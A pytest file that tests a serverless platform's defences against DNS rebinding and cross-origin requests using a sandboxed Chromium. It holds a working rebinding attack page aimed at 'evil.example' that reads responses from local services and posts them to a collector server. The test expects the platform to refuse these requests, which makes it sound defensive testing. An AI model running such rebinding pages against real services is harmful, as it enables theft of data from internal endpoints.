"""What web pages get from the platform's ports, in a real browser.

Chromium sees an /etc of the test's own: a change of its `hosts` is DNS rebinding.
"""

from __future__ import annotations

import contextlib
import html
import json
import os
import queue
import signal
import subprocess
import threading
from collections import defaultdict
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest

from tests.helpers.lambda_platform import BUILD_START, PYTHON
from tests.helpers.platform_access import token_header

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

ATTACKER, VICTIM = "127.0.0.2", "127.0.0.1"
HELLO = "def handler(event):\n    return {'hello': event.data}\n"
EVENT = {"ce-specversion": "1.0", "ce-id": "1", "ce-source": "/page", "ce-type": "t"}
# All of its processes end with the first one, and its files with them.
ALONE = [
    "--die-with-parent", "--unshare-pid", "--dev-bind", "/", "/", "--proc", "/proc",
    "--tmpfs", "/tmp", "--setenv", "HOME", "/tmp", "--setenv", "TMPDIR", "/tmp",
]  # fmt: skip
OPTIONS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--no-proxy-server",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--user-data-dir=/tmp/profile",
]  # fmt: skip
# It asks the attacker until the browser has learned where else the name leads.
PAGE = """<!doctype html><script>
const ask = async (url, options) => {
  for (;;) try {
    const answer = await fetch(url, {cache: "no-store", ...options});
    if (answer.headers.get("X-Address") !== "ATTACKER") return [answer.status, await answer.text()];
    await new Promise(later => setTimeout(later, 50));
  } catch (error) { return [0, error.name]; }
};
addEventListener("load", async () => {
  const found = [];
  for (const [url, options] of REQUESTS) found.push(await ask(url, options));
  await fetch("TOLD", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
  document.querySelector("a")?.click();
});
</script>BODY"""


class Site(ThreadingHTTPServer):
    """Serves pages, and is told by them what they found."""

    daemon_threads = False

    def __init__(self, address: str, port: int = 0) -> None:
        super().__init__((address, port), Handler)
        self.pages: dict[str, str] = {}
        self.told: defaultdict[str, queue.Queue[Any]] = defaultdict(queue.Queue)
        self.url = f"http://localhost:{self.server_port}"

    def page(self, path: str, *requests: tuple[str, dict[str, Any]], body: str = "") -> str:
        """Return a page that sends requests, tells their answers, and follows its link."""
        text = PAGE.replace("ATTACKER", ATTACKER).replace("REQUESTS", json.dumps(requests))
        return text.replace("TOLD", self.url + path).replace("BODY", body)

    def answers(self, path: str) -> Any:
        """Return statuses and bodies that a page read; 0 is an answer that was kept from it."""
        return self.told[path].get(timeout=120)


class Handler(BaseHTTPRequestHandler):
    # HTTP/1.0: no connection outlives its answer.
    server: Site

    def do_GET(self) -> None:
        page = self.server.pages.get(self.path)
        self.send_response(404 if page is None else 200)
        self.send_header("Content-Type", "text/html")
        self.send_header("X-Address", str(self.server.server_address[0]))
        self.end_headers()
        self.wfile.write((page or "").encode())

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.told[self.path].put(json.loads(body))
        self.do_GET()

    def log_message(self, *args: object) -> None: ...


@pytest.fixture
def site() -> Iterator[Callable[..., Site]]:
    with contextlib.ExitStack() as ended:

        def start(address: str = VICTIM, port: int = 0) -> Site:
            server = ended.enter_context(Site(address, port))
            thread = threading.Thread(target=server.serve_forever, args=(0.02,))
            thread.start()
            ended.callback(thread.join)
            ended.callback(server.shutdown)
            return server

        yield start


@pytest.fixture
def hosts(tmp_path) -> Path:
    """What the browser knows of names."""
    file = tmp_path / "etc" / "hosts"
    for folder in ("chromium.d", "fonts"):
        (file.parent / folder).mkdir(parents=True)
    file.write_text(f"{ATTACKER} evil.example\n")
    return file


@pytest.fixture
def browser(hosts, require_server) -> list[str]:
    """The command line of Chromium, less the address."""
    command = [require_server("bwrap", "apt-get install bubblewrap"), *ALONE]
    # Not the file alone: Chromium watches the folder for changes.
    command += ["--bind", str(hosts.parent), "/etc"]
    for folder in ("/etc/chromium.d", "/etc/fonts"):
        command += ["--ro-bind-try", folder, folder]
    return [*command, require_server("chromium", "apt-get install chromium"), *OPTIONS]


@pytest.fixture
def browse(browser, site) -> Iterator[Callable[[str], None]]:
    """`browse(url)` shows a page until the test ends."""
    with contextlib.ExitStack() as ended:

        def start(url: str) -> None:
            process = subprocess.Popen([*browser, url], start_new_session=True)
            ended.callback(process.wait)
            ended.callback(os.killpg, process.pid, signal.SIGKILL)

        yield start


@pytest.fixture
def function(platform, unique_name) -> str:
    """The path of a function that answers what it is sent."""
    platform.send_build_start(unique_name, {"main.py": HELLO})
    platform.await_phase(unique_name, "Ready")
    return f"/default/{unique_name}"


def post(data: object = None, **attributes: str) -> dict[str, Any]:
    headers = {"Content-Type": "application/json", **EVENT}
    headers |= {f"ce-{name}": value for name, value in attributes.items()}
    return {"method": "POST", "body": json.dumps(data), "headers": headers}


def test_a_page_whose_name_is_bound_anew_gets_nothing(platform, function, site, browse, hosts):
    unprotected, collector = site(), site()
    unprotected.pages["/secret"] = "the secret"
    spec = {"runtime": PYTHON, "source": {"inline": {"main.py": HELLO}}}
    build_start = post(spec, type=BUILD_START, subject="default/rebound")
    api = f"https://evil.example:{urlsplit(platform.api_url).port}/api/v1/namespaces"
    of_gateway = [(function, post()), (function, {}), ("/knative-lambda/build-start", build_start)]
    of_broker = [("/knative-lambda/knative-lambda", build_start), ("/-/events", {})]
    of_broker += [("/-/dead-letters", {}), (api, {}), (api, {"mode": "no-cors"})]
    attackers: list[Site] = []
    for path, url, requests in (
        ("/unprotected", unprotected.url, [("/secret", {})]),
        ("/gateway", platform.gateway_url, of_gateway),
        ("/broker", platform.broker_url, of_broker),
    ):
        attackers.append(site(ATTACKER, urlsplit(url).port))
        # The first goes to the attacker until the name leads elsewhere.
        attackers[-1].pages["/"] = collector.page(path, ("/visited", post()), *requests)
        frame = f"<iframe src='http://evil.example:{urlsplit(url).port}/'></iframe>"
        collector.pages["/"] = collector.pages.get("/", "") + frame
    browse(collector.url)
    for attacker in attackers:
        attacker.answers("/visited")

    with hosts.open("r+") as file:
        file.write(VICTIM)

    # The page reads what does not look at the name that it is asked for.
    assert collector.answers("/unprotected")[1:] == [[200, "the secret"]]
    read = [*collector.answers("/gateway"), *collector.answers("/broker")]
    refused = [[status, "HostNotAllowed" in text] for status, text in read]
    # Chromium itself does not believe the API's certificate.
    assert refused == [[403, True]] * 8 + [[0, False]] * 2
    assert platform.record("rebound") is None
    assert platform.events(subject="default/rebound") == []


SPEAKING = """
def handler(request):
    print("called", request.method, request.full_path, flush=True)
    return {page!r}, {{"Content-Type": "text/html"}}
"""


def test_a_foreign_page_reaches_a_function_by_a_link_alone(
    platform, function, unique_name, site, browse
):
    foreign = site()
    own_page = foreign.page("/own", (function, post("own")))
    name, source = f"{unique_name}-page", {"main.py": SPEAKING.format(page=own_page)}
    platform.send_build_start(name, source, spec={"signature": "http"})
    platform.await_phase(name, "Ready")
    urls = (platform.url(name), platform.url(name).replace("127.0.0.1", "localhost"))
    requests = [
        (url, options)
        for url in urls
        for options in ({}, post(), {"method": "POST", "body": "a=b"}, {"mode": "no-cors"})
    ]
    frames = "".join(
        f"<img src='{url}'><script src='{url}'></script><iframe src='{url}'></iframe>"
        f"<link rel=stylesheet href='{url}'>"
        for url in urls
    )
    body = f"{frames}<a href='{urls[0]}?link'>here</a>"
    foreign.pages["/"] = foreign.page("/foreign", *requests, body=body)

    browse(foreign.url)

    # An answer to a request without CORS is opaque, whatever it is.
    kept = [[0, "TypeError"]] * 3 + [[0, ""]]
    assert foreign.answers("/foreign") == kept * 2
    assert foreign.answers("/own") == [[200, '{"hello":"own"}']]
    log = platform.kn_lambda("logs", name).stdout
    assert (log.count("called "), log.count("called GET /?link")) == (1, 1)


def test_a_page_that_was_let_in_reads_its_answers(start_platform, site, browse):
    page = site()
    platform = start_platform("--allow-origin", page.url)
    platform.send_build_start("open", {"main.py": HELLO})
    platform.await_phase("open", "Ready")
    events = f"{platform.broker_url}/-/events"
    reads = ((events, {"headers": token_header(platform.home)}), (events, {}))
    page.pages["/"] = page.page("/told", (platform.url("open"), post("from a page")), *reads)

    browse(page.url)

    called, listed, stranger = page.answers("/told")
    assert called == [200, '{"hello":"from a page"}']
    assert (listed[0], BUILD_START in listed[1]) == (200, True)
    assert (stranger[0], json.loads(stranger[1])["reason"]) == (401, "Unauthorized")


def test_a_function_of_events_shows_a_person_how_to_call_it(platform, function, browser):
    options = ["--dump-dom", "--enable-logging=stderr", "--v=0"]
    url = f"{platform.gateway_url}{function}"
    shown = subprocess.run(
        [*browser, *options, url], capture_output=True, text=True, timeout=120, check=False
    )
    assert f"<h1>{function.rpartition('/')[2]}</h1>" in shown.stdout
    # Nothing of the page itself is against its policy.
    assert "Content Security Policy" not in shown.stderr

    curl = html.unescape(shown.stdout.partition("<code>curl ")[2].partition("</code>")[0])
    called = subprocess.run(
        ["sh", "-c", f"curl -s {curl}"], capture_output=True, text=True, check=True
    )
    assert json.loads(called.stdout) == {"hello": {}}
